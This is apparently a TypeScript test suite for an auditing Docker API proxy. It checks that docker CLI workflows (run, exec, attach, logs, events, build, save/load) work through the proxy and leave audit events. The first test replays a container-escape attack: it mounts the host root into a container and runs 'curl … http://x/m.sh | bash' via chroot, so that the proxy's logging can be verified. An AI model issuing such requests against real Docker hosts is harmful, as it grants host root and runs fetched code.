// docker CLI workflows through the proxy, shared by the plain and the mutual-TLS
// suites: each must behave as against dockerd directly (output, exit code) and
// leave the audit events a SOC needs (parameters, created ids, the caller).
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { DockerApiEvent } from '../../schemas/generated/docker-api-event';
import { dockerApi } from '../services/local-services';
import { docker, dockerShell, dockerTty, uniqueName, type DockerTarget } from './docker-cli';
import { jsonRequest, rawHttp, type ProxyHarness } from './proxy-harness';

export interface WorkflowContext {
  socket: string;
  harness: ProxyHarness;
  target: DockerTarget;
  /** Directory with the client certificate, for raw requests over TLS. */
  tlsDir?: string;
  /** Checks every event of this suite's client identity (e.g. its TLS subject). */
  checkClient(e: DockerApiEvent): void;
}

const is = (method: string, endpoint: string) => (e: DockerApiEvent) =>
  e.http.request.method === method && e.dockguard.endpoint === endpoint;

export function workflowSuite(ctx: () => WorkflowContext): void {
  const containers: string[] = [];
  const images: string[] = [];
  afterAll(async () => {
    const { socket } = ctx();
    for (const c of containers) await dockerApi(socket, 'DELETE', `/containers/${c}?force=1`).catch(() => undefined);
    for (const i of images) await dockerApi(socket, 'DELETE', `/images/${i}?force=1`).catch(() => undefined);
  });
  const name = (p: string) => {
    const n = uniqueName(p);
    containers.push(n);
    return n;
  };

  it('records the seed attack (pull, host-root create, start) with every parameter, the created id and the caller', async () => {
    const { harness, tlsDir, socket } = ctx();
    const pull = await rawHttp(
      harness.port,
      'POST /v1.41/images/create?fromImage=alpine&tag=latest HTTP/1.1\r\nHost: docker\r\nContent-Length: 0\r\nConnection: close\r\n\r\n',
      tlsDir,
    );
    const pullEvent = await harness.waitFor(
      (e) => e.source.port === pull.localPort && e.dockguard.endpoint === '/images/create',
      'the pull',
    );
    expect(pullEvent.http.response.status_code).toBe(pull.status);
    expect(pullEvent.url.original).toBe('/v1.41/images/create?fromImage=alpine&tag=latest');

    const cname = name('dg-seed');
    const cmd = ['chroot', '/mnt', '/bin/sh', '-c', 'curl -sL4 http://x/m.sh | bash'];
    const create = await rawHttp(
      harness.port,
      jsonRequest(
        'POST',
        `/v1.41/containers/create?name=${cname}`,
        JSON.stringify({ Image: 'alpine', Cmd: cmd, HostConfig: { Binds: ['/:/mnt'], NetworkMode: 'none' } }),
      ),
      tlsDir,
    );
    expect(create.status).toBe(201);
    const id = (JSON.parse(create.body) as { Id: string }).Id;
    const ev = await harness.waitFor((e) => e.source.port === create.localPort, 'the create');
    expect(ev.dockguard.endpoint).toBe('/containers/create');
    expect(ev.dockguard.container?.binds).toEqual(['/:/mnt']);
    expect(ev.process.args).toEqual(cmd);
    expect(ev.container.id).toBe(id);
    expect(ev.container.image.name).toBe('alpine');
    expect(ev.source.ip).toBe('127.0.0.1');
    expect(ev.http.response.status_code).toBe(201);
    expect(ev.dockguard.decision.allowed).toBe(true);
    ctx().checkClient(ev);

    const start = await rawHttp(
      harness.port,
      `POST /v1.41/containers/${id}/start HTTP/1.1\r\nHost: docker\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`,
      tlsDir,
    );
    expect(start.status).toBe(204);
    const started = await harness.waitFor((e) => e.source.port === start.localPort, 'the start');
    expect(started.dockguard.endpoint).toBe('/containers/{id}/start');
    expect(started.dockguard.resource_id).toBe(id);
    // dockerd really got the bind as written
    const inspect = (await dockerApi(socket, 'GET', `/containers/${id}/json`)).json<{
      HostConfig: { Binds: string[] };
    }>();
    expect(inspect.HostConfig.Binds).toEqual(['/:/mnt']);
  });

  it('docker run (attached) prints the output, and the create, attach, start and wait are recorded', async () => {
    const { harness, target } = ctx();
    const cname = name('dg-run');
    const r = await docker(target, ['run', '--rm', '--name', cname, '--network', 'none', 'alpine', 'echo', 'hi']);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe('hi\n');
    expect(r.code).toBe(0);
    const create = await harness.waitFor(
      (e) => is('POST', '/containers/create')(e) && e.url.original.includes(cname),
      'the run create',
    );
    expect(create.process.args).toEqual(['echo', 'hi']);
    const id = create.container.id;
    expect(id).toMatch(/^[0-9a-f]{64}$/);
    const attach = await harness.waitFor(
      (e) => is('POST', '/containers/{id}/attach')(e) && e.url.original.includes(id!),
      'the attach',
    );
    expect(attach.http.response.status_code).toBe(101);
    await harness.waitFor((e) => is('POST', '/containers/{id}/wait')(e) && e.url.original.includes(id!), 'the wait');
    ctx().checkClient(create);
  });

  it('docker exec -i passes stdin through and gets the output back', async () => {
    const { harness, target } = ctx();
    const cname = name('dg-exec');
    expect(
      (await docker(target, ['run', '-d', '--name', cname, '--network', 'none', 'alpine', 'sleep', '120'])).code,
    ).toBe(0);
    const r = await docker(target, ['exec', '-i', cname, 'cat'], 'hello through the proxy\n');
    expect(r.stdout).toBe('hello through the proxy\n');
    expect(r.code).toBe(0);
    const ex = await harness.waitFor(
      (e) => is('POST', '/containers/{id}/exec')(e) && e.url.original.includes(cname),
      'exec create',
    );
    expect(ex.process.args).toEqual(['cat']);
    const start = await harness.waitFor((e) => is('POST', '/exec/{id}/start')(e), 'exec start');
    expect(start.http.response.status_code).toBe(101);
  });

  it('docker exec -it works on a terminal', async () => {
    const { target } = ctx();
    const cname = name('dg-tty');
    await docker(target, ['run', '-d', '--name', cname, '--network', 'none', 'alpine', 'sleep', '120']);
    const r = await dockerTty(target, ['exec', '-it', cname, 'sh', '-c', 'tty && echo tty-ok'], '');
    expect(r.stdout).toMatch(/\/dev\/pts\/\d+/);
    expect(r.stdout).toContain('tty-ok');
    expect(r.code).toBe(0);
  });

  it('docker attach follows a running container until it exits', async () => {
    const { target } = ctx();
    const cname = name('dg-attach');
    await docker(target, [
      'run',
      '-d',
      '--name',
      cname,
      '--network',
      'none',
      'alpine',
      'sh',
      '-c',
      'sleep 2; echo attached-out',
    ]);
    const r = await docker(target, ['attach', cname]);
    expect(r.stdout).toContain('attached-out');
    expect(r.code).toBe(0);
  });

  it('docker logs -f streams and ends when the container ends', async () => {
    const { target } = ctx();
    const cname = name('dg-logs');
    await docker(target, [
      'run',
      '-d',
      '--name',
      cname,
      '--network',
      'none',
      'alpine',
      'sh',
      '-c',
      'echo l1; sleep 2; echo l2',
    ]);
    const r = await docker(target, ['logs', '-f', cname], undefined, 30);
    expect(r.stdout).toBe('l1\nl2\n');
    expect(r.code).toBe(0);
  });

  it('docker events --since/--until returns the window and ends', async () => {
    const { target, harness } = ctx();
    const cname = name('dg-events');
    const since = Math.floor(Date.now() / 1000) - 1;
    await docker(target, ['run', '--name', cname, '--network', 'none', 'alpine', 'true']);
    const until = Math.floor(Date.now() / 1000) + 1;
    await new Promise((r) => setTimeout(r, 1500));
    const r = await docker(target, [
      'events',
      '--since',
      String(since),
      '--until',
      String(until),
      '--filter',
      `container=${cname}`,
      '--format',
      '{{.Action}}',
    ]);
    expect(r.code).toBe(0);
    expect(r.stdout.split('\n')).toEqual(expect.arrayContaining(['create', 'start', 'die']));
    await harness.waitFor((e) => is('GET', '/events')(e) && e.http.response.status_code === 200, 'events');
  });

  it('docker build of a FROM alpine Dockerfile (network none), and docker save | docker load', async () => {
    const { target, harness } = ctx();
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dockguard-build-'));
    fs.writeFileSync(path.join(dir, 'Dockerfile'), 'FROM alpine\nRUN echo built-through-proxy > /built\n');
    const tag = `${uniqueName('dg-build')}:1`;
    images.push(tag);
    const b = await docker(target, ['build', '--network', 'none', '-t', tag, dir], undefined, 120);
    expect(b.code).toBe(0);
    const run = await docker(target, ['run', '--rm', '--network', 'none', tag, 'cat', '/built']);
    expect(run.stdout).toBe('built-through-proxy\n');
    const build = await harness.waitFor((e) => is('POST', '/build')(e) && e.url.original.includes('t='), 'the build');
    expect(build.http.response.status_code).toBe(200);
    expect(build.http.request.body.bytes).toBeGreaterThan(0);

    const l = await dockerShell(target, `docker save '${tag}' | docker load`, 120);
    expect(l.stdout).toContain(`Loaded image: ${tag}`);
    expect(l.code).toBe(0);
    const load = await harness.waitFor((e) => is('POST', '/images/load')(e), 'the load');
    expect(load.http.response.status_code).toBe(200);
    expect(load.http.request.body.bytes).toBeGreaterThan(100_000);
    fs.rmSync(dir, { recursive: true, force: true });
  });
}
